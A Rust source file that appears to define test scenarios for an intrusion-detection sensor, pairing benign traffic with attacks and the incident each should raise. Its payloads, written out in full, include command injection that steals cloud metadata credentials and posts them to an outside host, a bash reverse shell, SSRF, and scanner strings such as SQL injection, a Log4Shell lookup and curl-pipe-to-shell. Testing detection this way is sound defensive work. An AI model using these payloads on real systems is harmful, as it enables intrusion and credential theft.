//! The scenarios, as a table: what happens, and what a sensor that works makes of it.
//!
//! The runner is generic: a new scenario is a new row. Payloads are written as the shell will see them; clients encode them.

use std::net::IpAddr;
use std::time::Duration;

use super::control::{Order, Shot};
use super::http::percent_encode;
use super::metadata_server::ACCESS_KEY_ID;
use super::network::{INTRUDER, MONITOR, SCANNER, USER};
use crate::incident::{Severity, Stage};

/// One scenario.
#[derive(Debug)]
pub struct Scenario {
    /// Its name on the command line.
    pub name: &'static str,
    /// What happens, in one line.
    pub about: &'static str,
    /// Programs it needs beside `/bin/sh`.
    pub(super) needs: &'static [&'static str],
    /// It needs IPv6 in the range.
    pub(super) ipv6: bool,
    /// What the service is used to: played while the agent learns.
    pub(super) life: &'static [Step],
    /// What happens then.
    pub(super) steps: &'static [Step],
    /// What is right.
    pub(super) expect: Expect,
    /// What is not real about it; everything else is.
    pub simulated: Option<&'static str>,
}

/// What a sensor that works makes of a scenario.
#[derive(Debug)]
pub(super) enum Expect {
    /// No incident.
    Silence,
    /// One incident, with the attack's request named.
    Incident {
        /// Its severity in the end.
        severity: Severity,
        /// Its stages in the end.
        stages: &'static [Stage],
        /// It was raised before the edge line was there, and revised under the same id when it came.
        provisional_first: bool,
        /// What the intruder must have got for the attack to have happened at all.
        loot: &'static str,
    },
}

/// One thing that happens.
#[derive(Debug)]
pub(super) enum Step {
    /// A client asks for something.
    Visit(Visit),
    /// The request that must be named.
    Attack(Visit),
    /// The service does something by itself.
    Service(Order),
    /// The load balancer keeps its lines back from now on.
    HoldLog,
    /// Wait for the incident that host evidence alone raises.
    AwaitProvisional,
    /// This much time passes at once, for everybody.
    PassTime(Duration),
    /// The load balancer hands over what it kept back.
    ReleaseLog,
}

/// One request.
#[derive(Debug)]
pub(super) struct Visit {
    from: IpAddr,
    user_agent: &'static str,
    /// Path and query up to the payload.
    path: &'static str,
    /// The rest, before encoding.
    payload: &'static str,
    /// File that is posted.
    upload: Option<&'static str>,
}

impl Visit {
    /// As the client sends it.
    pub(super) fn shot(&self) -> Shot {
        Shot {
            from: self.from,
            method: self.method().into(),
            target: format!("{}{}", self.path, percent_encode(self.payload)),
            user_agent: self.user_agent.into(),
            upload: self.upload.map(str::to_owned),
        }
    }

    /// As its author meant it.
    pub(super) fn plain(&self) -> String {
        format!("{} {}{}", self.method(), self.path, self.payload)
    }

    const fn method(&self) -> &'static str {
        if self.upload.is_some() { "POST" } else { "GET" }
    }
}

const fn user(path: &'static str) -> Step {
    let user_agent = "Mozilla/5.0 (X11; Linux x86_64) Firefox/128.0";
    Step::Visit(Visit { from: USER, user_agent, path, payload: "", upload: None })
}

const fn monitor() -> Step {
    Step::Visit(Visit { from: MONITOR, user_agent: "uptime-monitor/2", path: "/health", payload: "", upload: None })
}

const fn scanner(path: &'static str, payload: &'static str) -> Step {
    Step::Visit(Visit { from: SCANNER, user_agent: "Mozilla/5.0 zgrab/0.x", path, payload, upload: None })
}

const fn attack(path: &'static str, payload: &'static str) -> Step {
    Step::Attack(Visit { from: INTRUDER, user_agent: INTRUDER_AGENT, path, payload, upload: None })
}

const fn upload(path: &'static str, file: &'static str) -> Step {
    Step::Visit(Visit { from: INTRUDER, user_agent: INTRUDER_AGENT, path, payload: "", upload: Some(file) })
}

const INTRUDER_AGENT: &str = "Mozilla/5.0 (Windows NT 10.0) Chrome/126.0";

/// The service's ordinary life: pages, a supplier pinged through a shell, a payment, its own credentials.
const LIFE: &[Step] = &[
    monitor(),
    user("/"),
    user("/products?id=1"),
    user("/ping?host=10.20.0.1"),
    user("/checkout"),
    Step::Service(Order::RefreshCredential),
    monitor(),
];

/// The same for a service that never asked for credentials.
const LIFE_WITHOUT_CREDENTIALS: &[Step] =
    &[monitor(), user("/"), user("/products?id=1"), user("/ping?host=10.20.0.1"), user("/checkout"), monitor()];

const STEAL_CREDENTIAL: Step = attack(
    "/ping?host=",
    "127.0.0.1; M=http://169.254.169.254/latest/meta-data/iam/security-credentials/; curl -s $M$(curl -s $M) | curl -s --data-binary @- http://203.0.113.66/drop",
);

const ALL_STAGES: &[Stage] = &[Stage::Edge, Stage::Host, Stage::Egress];

/// The attack that a silent scenario ends with, after its silence was heard: the proof that the sensor was awake.
pub(super) const PROOF: &[Step] = &[STEAL_CREDENTIAL];

const HOUR: Duration = Duration::from_secs(3600);

/// Every scenario, in the order they are played.
pub static SCENARIOS: &[Scenario] = &[
    Scenario {
        name: "full-chain",
        about: "command injection, a shell, the instance's credential, sent outside; scanners and users around it",
        needs: &["curl"],
        ipv6: false,
        life: LIFE,
        steps: &[
            user("/"),
            scanner("/search?q=", "1' OR '1'='1"),
            scanner("/status?name=", "x; cat /etc/passwd"),
            monitor(),
            STEAL_CREDENTIAL,
            user("/products?id=1"),
        ],
        expect: Expect::Incident {
            severity: Severity::Critical,
            stages: ALL_STAGES,
            provisional_first: false,
            loot: ACCESS_KEY_ID,
        },
        simulated: None,
    },
    Scenario {
        name: "late-edge",
        about: "the same, with the load balancer's line delivered 30 minutes late",
        needs: &["curl"],
        ipv6: false,
        life: LIFE,
        steps: &[
            Step::HoldLog,
            user("/"),
            scanner("/status?name=", "x; cat /etc/passwd"),
            STEAL_CREDENTIAL,
            user("/products?id=1"),
            Step::AwaitProvisional,
            Step::PassTime(Duration::from_secs(30 * 60)),
            Step::ReleaseLog,
        ],
        expect: Expect::Incident {
            severity: Severity::Critical,
            stages: ALL_STAGES,
            provisional_first: true,
            loot: ACCESS_KEY_ID,
        },
        simulated: Some("the 30 minutes: all clocks are moved on by them before the line is handed over"),
    },
    Scenario {
        name: "reverse-shell",
        about: "command injection, a shell with its terminal on a socket to the intruder",
        needs: &["bash"],
        ipv6: false,
        life: LIFE,
        steps: &[
            user("/"),
            attack("/ping?host=", "127.0.0.1; bash -c 'bash -i >& /dev/tcp/203.0.113.66/4444 0>&1'"),
            user("/products?id=1"),
        ],
        expect: Expect::Incident {
            severity: Severity::Critical,
            stages: ALL_STAGES,
            provisional_first: false,
            loot: "uid=65534",
        },
        simulated: None,
    },
    Scenario {
        name: "ssrf-metadata",
        about: "request forgery: no shell at all, the service itself fetches the credential",
        needs: &[],
        ipv6: false,
        life: LIFE_WITHOUT_CREDENTIALS,
        steps: &[
            user("/"),
            attack("/preview?url=", "http://169.254.169.254/latest/meta-data/iam/security-credentials/shop-web"),
            user("/products?id=1"),
        ],
        expect: Expect::Incident {
            severity: Severity::High,
            stages: &[Stage::Edge, Stage::Host],
            provisional_first: false,
            loot: ACCESS_KEY_ID,
        },
        simulated: None,
    },
    Scenario {
        name: "renamed-shell",
        about: "a copy of the shell under another name, uploaded and run without any shell in between",
        needs: &["curl"],
        ipv6: false,
        life: LIFE,
        steps: &[
            user("/"),
            upload("/upload?name=thumbnailer", "/bin/sh"),
            attack(
                "/plugin?name=thumbnailer&option=-c&value=",
                "M=http://169.254.169.254/latest/meta-data/iam/security-credentials/; curl -s $M$(curl -s $M) | curl -s --data-binary @- http://203.0.113.66/drop",
            ),
            user("/products?id=1"),
        ],
        expect: Expect::Incident {
            severity: Severity::Critical,
            stages: ALL_STAGES,
            provisional_first: false,
            loot: ACCESS_KEY_ID,
        },
        simulated: None,
    },
    Scenario {
        name: "ipv6-metadata",
        about: "the full chain with the metadata service asked over IPv6",
        needs: &["curl"],
        ipv6: true,
        life: LIFE,
        steps: &[
            user("/"),
            attack(
                "/ping?host=",
                "127.0.0.1; M=http://[fd00:ec2::254]/latest/meta-data/iam/security-credentials/; curl -gs $M$(curl -gs $M) | curl -s --data-binary @- http://203.0.113.66/drop",
            ),
        ],
        expect: Expect::Incident {
            severity: Severity::Critical,
            stages: ALL_STAGES,
            provisional_first: false,
            loot: ACCESS_KEY_ID,
        },
        simulated: None,
    },
    Scenario {
        name: "shell-only",
        about: "the service runs a shell script of its own, never seen before; no request asked for it",
        needs: &["curl"],
        ipv6: false,
        life: LIFE,
        steps: &[user("/"), Step::Service(Order::NightlyReport), user("/products?id=1")],
        expect: Expect::Silence,
        simulated: None,
    },
    Scenario {
        name: "metadata-only",
        about: "the service fetches its own credentials as an SDK does, for the first time",
        needs: &["curl"],
        ipv6: false,
        life: LIFE_WITHOUT_CREDENTIALS,
        steps: &[user("/"), Step::Service(Order::RefreshCredential), user("/products?id=1")],
        expect: Expect::Silence,
        simulated: None,
    },
    Scenario {
        name: "benign-day",
        about: "health checks, users, a known shell, a payment, a credential refresh; scanners trying everything",
        needs: &["curl"],
        ipv6: false,
        life: LIFE,
        steps: &[
            monitor(),
            user("/"),
            user("/ping?host=10.20.0.1"),
            user("/preview?url=http://192.0.2.80:443/"),
            user("/checkout"),
            Step::PassTime(HOUR),
            scanner("/.env", ""),
            scanner("/wp-login.php", ""),
            scanner("/products?id=", "1 UNION SELECT username,password FROM users--"),
            user("/products?id=1"),
            scanner("/cgi-bin/", "../../../../bin/sh"),
            scanner("/?x=", "${jndi:ldap://203.0.113.99/a}"),
            scanner("/status?name=", "x; curl http://203.0.113.99/x.sh | sh"),
            scanner("/page?u=", "http://169.254.169.254/latest/meta-data/"),
            scanner("/index.php?s=", "<script>alert(1)</script>"),
            user("/ping?host=10.20.0.1"),
            user("/no-such-page"),
            monitor(),
            Step::PassTime(HOUR),
            Step::Service(Order::RefreshCredential),
            user("/checkout"),
            monitor(),
        ],
        expect: Expect::Silence,
        simulated: Some("the hours between: all clocks are moved on by two"),
    },
];

/// The scenario of that name.
#[must_use]
pub fn find(name: &str) -> Option<&'static Scenario> {
    SCENARIOS.iter().find(|scenario| scenario.name == name)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn names_are_unique_and_found() {
        for scenario in SCENARIOS {
            assert_eq!(find(scenario.name).expect("found").about, scenario.about, "{}", scenario.name);
        }
        assert!(find("no-such").is_none());
    }

    #[test]
    fn an_incident_is_expected_exactly_where_there_is_one_attack() {
        for scenario in SCENARIOS {
            let attacks = scenario.steps.iter().filter(|step| matches!(step, Step::Attack(_))).count();
            let expected = usize::from(matches!(scenario.expect, Expect::Incident { .. }));
            assert_eq!(attacks, expected, "{}", scenario.name);
        }
    }

    #[test]
    fn a_payload_is_encoded_and_can_be_read_back() {
        let visit = Visit { from: USER, user_agent: "", path: "/ping?host=", payload: "a; b|c", upload: None };
        assert_eq!(visit.shot().target, "/ping?host=a%3B%20b%7Cc");
        assert_eq!(visit.plain(), "GET /ping?host=a; b|c");
    }
}
